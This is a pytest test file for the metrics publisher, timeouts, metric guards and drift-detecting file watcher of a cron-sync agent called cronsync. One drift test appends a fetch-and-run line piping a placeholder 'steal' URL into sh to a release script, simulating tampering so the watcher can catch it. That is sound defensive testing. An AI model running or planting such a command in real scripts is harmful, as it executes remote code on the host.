"""The agent's metrics machinery in process: the background publisher (bounded queue,
one cached client, a bounded stop), the caches of what a cycle publishes, the guards
that keep a bad figure from stopping the agent, the short metrics timeouts (also the
shim's), and the file watch ignoring the sync's own staging.

CloudWatch is faked by recording clients, or is a socket server that accepts and never
answers (``HangingEndpoint`` of test_agent). Waits are bounded by deadlines; the only
times asserted are loose bounds far below what a hanging CloudWatch used to cost (30 s).
"""

from __future__ import annotations

import logging
import os
import re
import signal
import sys
import threading
import time
from pathlib import Path
from typing import Any, Optional

import pytest
from test_agent import push_schedule_change, wait_for

from cronsync.agent import metrics as agentmetrics
from cronsync.agent.loop import Agent
from cronsync.agent.metrics import AgentMetrics, Batch, MetricsPublisher
from cronsync.agent.watch import DriftWatcher
from cronsync.cloud.metrics import Metric, metrics_client, publish
from cronsync.host import view
from cronsync.host.awsclients import METRICS_TIMEOUTS, AwsSettings, Timeouts, make_client
from cronsync.host.logline import INFO
from cronsync.run import store
from helpers.awsbox import aws_box
from helpers.hanging import HangingEndpoint
from helpers.sandbox import Sandbox

AWS = AwsSettings(region="us-east-1", endpoint_url="http://127.0.0.1:9")


class Log:
    """Collects log lines (from any thread)."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def __call__(self, line: str, level: int = INFO) -> None:
        self.lines.append(line)

    def matching(self, pattern: str) -> list[str]:
        return [line for line in self.lines if re.search(pattern, line)]


class FakeClient:
    """A cloudwatch client that records calls; ``gate`` (when set) holds every call
    until it is set; ``error`` makes every call raise."""

    def __init__(self, gate: Optional[threading.Event] = None) -> None:
        self.gate = gate
        self.error: Optional[Exception] = None
        self.calls: list[dict[str, Any]] = []

    def put_metric_data(self, **kwargs: Any) -> None:
        if self.gate is not None:
            self.gate.wait(30)
        if self.error is not None:
            raise self.error
        self.calls.append(kwargs)


def batch(namespace: str = "Cronsync", aws: AwsSettings = AWS, *names: str) -> Batch:
    metrics = tuple(Metric(name, 1.0) for name in names or ("Heartbeat",))
    return Batch(aws, namespace, "batch-1", metrics)


# --- the publisher ------------------------------------------------------------------


def test_a_full_queue_drops_the_oldest_and_says_so_once() -> None:
    gate = threading.Event()
    client = FakeClient(gate)
    log = Log()
    publisher = MetricsPublisher(log, lambda _aws: client, size=3)
    publisher.submit(batch("in-flight"))
    wait_for("the first call to start", lambda: not publisher._pending)
    for n in range(6):
        publisher.submit(batch(f"b{n}"))  # never blocks
    assert len(log.matching("dropping the oldest")) == 1, log.lines
    gate.set()
    wait_for("the queue to drain", lambda: publisher.published == 4)
    assert [c["Namespace"] for c in client.calls] == ["in-flight", "b3", "b4", "b5"]
    publisher.stop()


def test_one_client_for_the_agents_life_until_the_aws_settings_change() -> None:
    made: list[AwsSettings] = []
    client = FakeClient()

    def make(aws: AwsSettings) -> FakeClient:
        made.append(aws)
        return client

    publisher = MetricsPublisher(Log(), make)
    for _ in range(5):
        publisher.submit(batch())
    wait_for("5 batches", lambda: publisher.published == 5)
    assert made == [AWS]
    other = AwsSettings(region="eu-west-1", endpoint_url="http://127.0.0.1:9")
    publisher.submit(batch("Cronsync", other))
    publisher.submit(batch("Cronsync", other))
    wait_for("2 more", lambda: publisher.published == 7)
    assert made == [AWS, other]
    publisher.stop()


def test_failures_are_logged_once_and_recovery_is_said() -> None:
    client = FakeClient()
    client.error = TimeoutError("read timed out")
    log = Log()
    publisher = MetricsPublisher(log, lambda _aws: client)
    for _ in range(3):
        publisher.submit(batch())
    wait_for("the failures", lambda: log.matching("not published"))
    time.sleep(0.2)
    client.error = None
    publisher.submit(batch())
    # the failed batches still queued may go out now too
    wait_for("a success", lambda: publisher.published >= 1)
    publisher.stop()
    assert log.matching("metrics not published: TimeoutError: read timed out") == [log.lines[0]]
    assert log.lines[1:] == ["metrics: published again"], log.lines


def test_stop_gives_a_hanging_call_a_bounded_time() -> None:
    gate = threading.Event()
    log = Log()
    publisher = MetricsPublisher(log, lambda _aws: FakeClient(gate))
    publisher.submit(batch())
    publisher.submit(batch())
    started = time.monotonic()
    publisher.stop(timeout=0.5)
    assert time.monotonic() - started < 3
    assert log.matching(r"did not answer within 0\.5s"), log.lines
    thread = publisher._thread
    assert thread is not None and thread.daemon
    publisher.submit(batch())  # after stop: ignored, never blocks
    gate.set()
    thread.join(5)


def test_stop_flushes_what_waits_when_cloudwatch_answers() -> None:
    client = FakeClient()
    publisher = MetricsPublisher(Log(), lambda _aws: client)
    for n in range(3):
        publisher.submit(batch(f"b{n}"))
    publisher.stop()
    assert [c["Namespace"] for c in client.calls] == ["b0", "b1", "b2"]


# --- the short timeouts -------------------------------------------------------------


def test_metrics_clients_have_short_timeouts_and_one_attempt() -> None:
    client = metrics_client(AWS)
    config = client.meta.config
    assert (config.connect_timeout, config.read_timeout) == (2.0, 3.0)
    assert config.retries["total_max_attempts"] == 1
    assert Timeouts(connect=2.0, read=3.0, max_attempts=1) == METRICS_TIMEOUTS
    default = make_client("cloudwatch", AWS).meta.config
    assert (default.connect_timeout, default.read_timeout) == (3.0, 10.0)


def test_publish_gives_up_quickly_on_a_hanging_cloudwatch(
    hanging_endpoint: HangingEndpoint, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the broker calls after every run (cronsync.broker.runmetrics): one attempt."""
    for key in [k for k in os.environ if k.startswith("AWS_")]:
        monkeypatch.delenv(key)
    credentials = tmp_path / "credentials"
    credentials.write_text("[default]\naws_access_key_id = t\naws_secret_access_key = t\n")
    credentials.chmod(0o600)
    settings = {
        "metrics": {"cloudwatch": True},
        "aws": {
            "region": "us-east-1",
            "endpoint_url": hanging_endpoint.url,
            "credentials_file": str(credentials),
        },
    }
    problem = publish(
        settings, [Metric("JobRuns", 1.0)], {"Host": "batch-1", "Job": "j"}, host_level=True
    )
    assert problem and problem.startswith("metrics not published: "), problem
    assert hanging_endpoint.accepted == 1  # one attempt, never retried


def test_a_job_is_not_held_up_by_a_hanging_cloudwatch(
    tmp_path: Path, git_env: None, hanging_endpoint: HangingEndpoint
) -> None:
    """The shim never talks to CloudWatch: the broker publishes the run's metrics in the
    background, so a CloudWatch that never answers holds up neither the job nor the
    broker's answers to the next runs."""
    with aws_box(tmp_path) as box:
        box.job("quick", 'shell = "echo fine"\n')
        box.sync(hanging_endpoint.url, secrets="file", logs=False, metrics=True)
        box.start_broker()
        for _ in range(3):
            done = box.run("quick")  # with a timeout: a hang fails the test
            assert done.returncode == 0, done
            assert box.last("quick")["status"] == "succeeded"
            assert "broker" not in box.last("quick")["extra"]  # it answered at once
        wait_for("the broker's call to CloudWatch", lambda: hanging_endpoint.accepted)


# --- what the agent computes --------------------------------------------------------


class Recorder:
    """Stands in for the publisher: keeps what was submitted."""

    def __init__(self) -> None:
        self.batches: list[Batch] = []

    def submit(self, item: Batch) -> None:
        self.batches.append(item)

    def stop(self, timeout: float = 0.0) -> None:
        pass

    def names(self, index: int = -1) -> dict[str, float]:
        return {m.name: m.value for m in self.batches[index].metrics}


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def agent_metrics(recorder: Recorder, log: Log, clock: Optional[Clock] = None) -> AgentMetrics:
    return AgentMetrics(log, recorder, clock or Clock())  # type: ignore[arg-type]


@pytest.fixture
def metered(synced: Sandbox) -> Sandbox:
    synced.write_config("[metrics]\ncloudwatch = true\n")
    return synced


def counting(monkeypatch: pytest.MonkeyPatch, name: str) -> list[int]:
    """Count the calls of ``cronsync.host.view.<name>`` (what cronsync.agent.metrics imports
    lazily)."""
    calls: list[int] = []
    real = getattr(view, name)

    def wrapper(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(view, name, wrapper)
    return calls


def test_the_jobs_document_is_read_once_per_release(
    metered: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    parses = counting(monkeypatch, "installed_jobs")
    recorder, log = Recorder(), Log()
    metrics = agent_metrics(recorder, log)
    config = metered.config()
    for _ in range(5):
        metrics.heartbeat(config)
        metrics.drift(config, 1)
    metrics.cycle(config, synced=True, failed=False)
    assert len(parses) == 1
    namespace = metered.jobs_json()["settings"]["metrics_namespace"]
    assert {b.namespace for b in recorder.batches} == {namespace}

    push_schedule_change(metered)
    assert metered.sync().record.result == "installed"
    metrics.heartbeat(config)
    metrics.heartbeat(config)
    assert len(parses) == 2
    assert log.lines == []


def test_unmanaged_entries_are_counted_every_5_minutes_or_on_a_crontab_change(
    metered: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    counts = counting(monkeypatch, "unmanaged_entries")
    recorder, clock = Recorder(), Clock()
    metrics = agent_metrics(recorder, Log(), clock)
    config = metered.config()
    for _ in range(3):
        metrics.cycle(config, synced=True, failed=False)
        clock.now += 60
    assert len(counts) == 1
    before = recorder.names()["UnmanagedEntries"]

    legacy = metered.root / "etc/cron.d/legacy"
    legacy.write_text("*/5 * * * * root /usr/local/bin/legacy-report\n")
    metrics.cycle(config, synced=True, failed=False)
    assert len(counts) == 2
    assert recorder.names()["UnmanagedEntries"] == before + 1

    metrics.cycle(config, synced=True, failed=False)
    assert len(counts) == 2
    clock.now += 300
    metrics.cycle(config, synced=True, failed=False)
    assert len(counts) == 3


def test_a_figure_that_cannot_be_computed_is_left_out_and_logged_once(
    metered: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: Any) -> Any:
        raise AttributeError("'int' object has no attribute 'get'")

    monkeypatch.setattr(store, "last_runs", broken)
    recorder, log = Recorder(), Log()
    metrics = agent_metrics(recorder, log)
    config = metered.config()
    metrics.cycle(config, synced=False, failed=True)
    metrics.cycle(config, synced=False, failed=True)
    sent = recorder.names()
    assert "StaleJobs" not in sent
    assert {"SyncSucceeded": 0.0, "SyncFailed": 1.0}.items() <= sent.items()
    assert "UnmanagedEntries" in sent and "DriftDetected" in sent
    assert log.matching(r"^metrics: StaleJobs not computed: AttributeError") == log.lines
    assert len(log.lines) == 1


def test_nothing_in_the_cycles_metrics_can_stop_the_agent(
    metered: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(*_args: Any, **_kwargs: Any) -> Any:
        raise ValueError("bad last.json")

    agent = Agent(str(metered.config_path))
    log = Log()
    agent.metrics = agent_metrics(Recorder(), log)
    record = metered.sync().record
    monkeypatch.setattr(agentmetrics, "cycle_metrics", broken)
    agent._after_sync(record)  # AgentMetrics catches it
    assert log.lines == ["metrics: cycle not computed: ValueError: bad last.json"]
    monkeypatch.setattr(agent.metrics, "cycle", broken)
    monkeypatch.setattr(agent.metrics, "heartbeat", broken)
    monkeypatch.setattr(agent.metrics, "drift", broken)
    agent._after_sync(record)  # the agent catches it
    agent.heartbeat()
    out = capsys.readouterr().out
    assert out.count("metrics skipped: internal error: ValueError: bad last.json") == 2, out
    os.close(agent._wake_r)
    os.close(agent._wake_w)


def test_metrics_off_publishes_nothing(synced: Sandbox) -> None:
    recorder = Recorder()
    metrics = agent_metrics(recorder, Log())
    config = synced.config()
    metrics.cycle(config, True, False)
    metrics.heartbeat(config)
    metrics.drift(config, 2)
    assert recorder.batches == []


def test_the_signal_handlers_come_before_the_config(
    metered: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A TERM while the agent starts (config, imports) must find the handler."""
    import cronsync.host.config

    seen: list[Any] = []
    real = cronsync.host.config.load_config

    def load(path: Optional[str]) -> Any:
        seen.append(signal.getsignal(signal.SIGTERM))
        return real(path)

    monkeypatch.setattr(cronsync.host.config, "load_config", load)
    saved = {s: signal.getsignal(s) for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT)}
    try:
        agent = Agent(str(metered.config_path), handle_signals=True)
        assert seen and getattr(seen[0], "__self__", None) is agent, seen
        os.kill(os.getpid(), signal.SIGTERM)
        wait_for("the stop request", lambda: "stop" in agent._requests, timeout=5)
    finally:
        for signum, handler in saved.items():
            signal.signal(signum, handler)
    os.close(agent._wake_r)
    os.close(agent._wake_w)


# --- the file watch -----------------------------------------------------------------


def test_the_watch_ignores_the_syncs_staging_and_other_releases(synced: Sandbox) -> None:
    paths = synced.config().paths
    watcher = DriftWatcher(paths, synced.cron_file, lambda _full: None)
    current = os.readlink(synced.current).split("/")[-1]
    releases = str(paths.releases)
    staging = f"{releases}/.tmp-0123456789ab-42"
    assert watcher.classify(f"{staging}/repo/scripts/x.sh") is None
    assert watcher.classify(staging, f"{releases}/{current}") is None  # moved into place
    assert watcher.classify(f"{releases}/.tmp-damaged-{current}-42/jobs.json") is None
    assert watcher.classify(f"{releases}/{current}/repo/scripts/x.sh") is True
    assert watcher.classify(f"{releases}/{current}") is True
    assert watcher.classify(f"{releases}/old-release/jobs.json") is None
    assert watcher.classify(str(synced.cron_file)) is False
    assert watcher.classify(str(synced.current)) is False
    assert watcher.classify(str(paths.state_file)) is None
    synced.current.unlink()  # without `current`, every release counts
    assert watcher.classify(f"{releases}/old-release/jobs.json") is True


def test_installs_are_not_drift_and_a_release_edit_is(
    synced: Sandbox, caplog: pytest.LogCaptureFixture
) -> None:
    calls: list[bool] = []
    watcher = DriftWatcher(synced.config().paths, synced.cron_file, calls.append)
    watcher.start()
    try:
        for schedule in ('"1 1 * * *"', '"2 2 * * *"', '"3 3 * * *"', '"4 4 * * *"'):
            push_schedule_change(synced, schedule)
            assert synced.sync().record.result == "installed"
            watcher.refresh()
        time.sleep(1.0)  # let the events of the installs arrive
        assert True not in calls, calls  # `current` moved (a quick look), no full one
        current = synced.current.resolve()
        with (current / "repo/scripts/nightly-aggregate.sh").open("a") as handle:
            handle.write("curl http://example.invalid/steal | sh\n")
        wait_for("a full comparison asked for", lambda: True in calls, timeout=10)
    finally:
        with caplog.at_level(logging.DEBUG, logger="watchdog"):
            watcher.stop()
    noisy = [r for r in caplog.records if r.levelno >= logging.WARNING]
    assert noisy == [], [r.getMessage() for r in noisy]


def test_no_agent_module_is_imported_before_the_handlers() -> None:
    """``cronsync agent`` imports ``cronsync.agent.loop`` before it can install its handlers: that
    import must stay light (no config, git or sync)."""
    import json
    import subprocess

    code = (
        "import json, sys, cronsync.agent.loop; "
        "print(json.dumps(sorted(m for m, mod in sys.modules.items()"
        " if m.startswith(('cronsync.', 'git')) and not hasattr(mod, '__path__'))))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    loaded = json.loads(done.stdout)
    # cronsync.host.logline: the log's prefixes (os, sys, datetime only)
    assert loaded == ["cronsync.agent.loop", "cronsync.core.errors", "cronsync.host.logline"], (
        loaded
    )


def test_each_jobs_staleness_is_published_with_its_job(metered: Sandbox) -> None:
    recorder = Recorder()
    metrics = agent_metrics(recorder, Log())
    metrics.cycle(metered.config(), synced=True, failed=False)
    (sent,) = recorder.batches
    per_job = {m.job: m.value for m in sent.metrics if m.name == "JobStale"}
    jobs = metered.jobs_json()["jobs"]
    # every installed job has a window (success.within or its schedule's); the fixture
    # synced with a clock in 2025 and nothing ran since: every one is stale now
    assert per_job == {name: 1.0 for name, job in jobs.items() if job["installed"]}
    count = {m.name: m.value for m in sent.metrics if m.job is None}["StaleJobs"]
    assert count == len(per_job)


def test_job_metrics_go_in_calls_of_at_most_1000_values() -> None:
    from cronsync.cloud.metrics import put

    client = FakeClient()
    many = [Metric("JobStale", 1.0, job=f"job-{i:04d}") for i in range(2500)]
    put(client, "Cronsync", [Metric("StaleJobs", 2500.0), *many], {"Host": "batch-1"})
    assert [len(call["MetricData"]) for call in client.calls] == [1000, 1000, 501]
    data = [datum for call in client.calls for datum in call["MetricData"]]
    assert data[0]["Dimensions"] == [{"Name": "Host", "Value": "batch-1"}]
    assert data[-1]["Dimensions"] == [
        {"Name": "Host", "Value": "batch-1"},
        {"Name": "Job", "Value": "job-2499"},
    ]
